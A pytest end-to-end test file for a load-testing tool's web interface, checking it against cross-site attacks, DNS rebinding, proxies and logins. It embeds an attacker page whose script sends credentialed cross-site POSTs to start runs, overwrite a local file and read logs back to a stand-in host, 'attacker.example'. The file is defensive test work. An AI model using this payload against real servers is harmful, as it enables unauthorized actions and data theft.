"""A browser that visits a page of an attacker, and one that comes through a proxy, with a login, or from elsewhere."""

from __future__ import annotations

import http.client
import threading
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from tests.e2e.running import ROOT, until

from .visit import fills, start

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser

    from tests.e2e.running import Place, Simulator

    from .visit import Visit

PASSWORD = "made-up password"
ATTACK = """<!doctype html><title>attack</title>
<iframe id=frame src="http://{there}/"></iframe>
<form id=form method=post target=_blank action="http://{there}/swarm">
<input name=host value="{here}"><input name=bedrock_report_file value="{precious}">
</form>
<script>
const there = "http://{there}";
const tell = (name, text) => fetch("/told", {{method: "POST", body: name + ": " + text}});
const form = new URLSearchParams(new FormData(document.getElementById("form")));
(async () => {{
  for (const path of ["/swarm", "/stop", "/stats/reset"])
    await fetch(there + path, {{method: "POST", mode: "no-cors", credentials: "include", body: form}})
      .catch(() => {{}});
  for (const path of ["/", "/logs", "/stats/requests", "/bedrock/live.json"])
    await fetch(there + path).then(r => r.text()).then(text => tell("read " + path, text)).catch(() => {{}});
  document.getElementById("form").submit();
  await tell("done", "all");
}})();
</script>"""


class Server(ThreadingHTTPServer):
    """A server in this process, with what its handlers need."""

    daemon_threads = True
    request_queue_size = 128
    """A browser opens several connections at once; of more than wait here, the kernel resets some."""
    page = ""
    target = ""
    told: list[str]


class Attacker(BaseHTTPRequestHandler):
    """Serves the page of an attacker, and takes note of what it is told."""

    server: Server

    def do_GET(self) -> None:
        """Serve the page."""
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        """Take note."""
        self.server.told.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Proxy(BaseHTTPRequestHandler):
    """Passes on each request under another name, as a reverse proxy does that has not been told to keep it."""

    server: Server

    def do_GET(self) -> None:
        """Pass on a request."""
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        kept = {k: v for k, v in self.headers.items() if k.lower() not in ("host", "connection", "accept-encoding")}
        with closing(http.client.HTTPConnection(self.server.target, timeout=60)) as connection:
            connection.request(self.command, self.path, body or None, {**kept, "Host": self.server.target})
            with connection.getresponse() as answer:
                status, headers, content = answer.status, answer.getheaders(), answer.read()
        self.send_response(status)
        for name, value in headers:
            if name.lower() not in ("content-length", "transfer-encoding", "connection", "date", "server"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def do_POST(self) -> None:
        """Pass on a request."""
        self.do_GET()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def serve() -> Iterator[Callable[[type[BaseHTTPRequestHandler]], Server]]:
    """Start servers; they end with the test."""
    servers: list[tuple[Server, threading.Thread]] = []

    def begin(handler: type[BaseHTTPRequestHandler]) -> Server:
        server = Server(("127.0.0.1", 0), handler)
        server.told = []
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        servers.append((server, thread))
        return server

    yield begin
    for server, thread in servers:
        server.shutdown()
        thread.join(10)
        server.server_close()


def test_a_page_of_an_attacker(
    visit: Callable[..., Visit], serve: Any, browser: Browser, place: Place, simulator: Simulator
) -> None:
    """A page on another site neither starts a run, nor reads or frames anything, nor under a name of its own."""
    there = visit("--host", simulator.url)
    server = serve(Attacker)
    here = f"http://attacker.example:{server.server_port}"
    precious = place.path / "precious.txt"
    precious.write_text("precious")
    server.page = ATTACK.format(there=there.host, here=here, precious=precious)
    context = browser.new_context()
    page = context.new_page()
    with context.expect_page() as opened:
        page.goto(here)
    expect(opened.value.locator("body")).to_contain_text("the request comes from a page of")
    until(lambda: "done: all" in server.told, "end of the attack")
    assert server.told == ["done: all"], "nothing could be read, and nothing was sent"
    assert page.frame_locator("#frame").locator("#root, button").count() == 0
    assert not place.runs()
    assert precious.read_text() == "precious"
    assert not simulator.calls()

    port = there.host.rpartition(":")[2]
    rebound = page.goto(f"http://rebound.example:{port}/")
    assert rebound is not None
    assert rebound.status == 403
    expect(page.locator("body")).to_contain_text("--bedrock-allowed-hosts rebound.example")
    context.close()


@pytest.mark.parametrize("name", ["proxy.example", "127.0.0.1"])
def test_through_a_proxy_with_login_and_base_path(
    visit: Callable[..., Visit], serve: Any, place: Place, simulator: Simulator, name: str
) -> None:
    """Behind a proxy with an allowed name of its own the page is used with its login, below a base path."""
    place.configure({"concurrency": {"end": 1}, "test": {"non_streaming": False}})
    place.env["BEDROCK_WEB_PASSWORD"] = PASSWORD
    place.env["BEDROCK_ALLOWED_HOSTS"] = "other.example,proxy.example"
    locustfiles = f"{ROOT / 'locustfile.py'},{ROOT / 'examples' / 'login.py'}"
    there = visit(
        *("--host", simulator.url, "--web-login", "--web-base-path", "/below"), path="/below/", locustfile=locustfiles
    )
    proxy = serve(Proxy)
    proxy.target = there.host
    there.host = f"{name}:{proxy.server_port}"
    there.base = f"http://{there.host}/below/"
    page = there.open()
    page.locator("[name=username]").fill("any")
    page.locator("[name=password]").fill(PASSWORD)
    page.get_by_role("button", name="Login").click()
    start(page)
    fills(page)
    until(lambda: place.runs() and (place.runs()[0] / "report.md").exists(), "report")
    page.get_by_role("link", name="Runs", exact=True).click()
    page.get_by_role("link", name="Open the report").click()
    expect(page.locator(".report h1")).to_contain_text("Bedrock load test")
    page.close()  # before the proxy: a page that asks on would complain


def test_on_all_interfaces(visit: Callable[..., Visit], place: Place, simulator: Simulator) -> None:
    """With --web-host 0.0.0.0 and the name that others use for this machine, its page starts a run under that name."""
    place.configure({"concurrency": {"end": 1}, "test": {"non_streaming": False}})
    there = visit("--host", simulator.url, "--web-host", "0.0.0.0", "--bedrock-allowed-hosts", "load.example")
    there.host = there.host.replace("127.0.0.1", "load.example")
    there.base = f"http://{there.host}/"
    page = there.open()
    expect(page.locator("#bedrock-plan")).to_contain_text("1 level")
    start(page)
    fills(page)
    until(lambda: place.runs() and (place.runs()[0] / "report.md").exists(), "report")
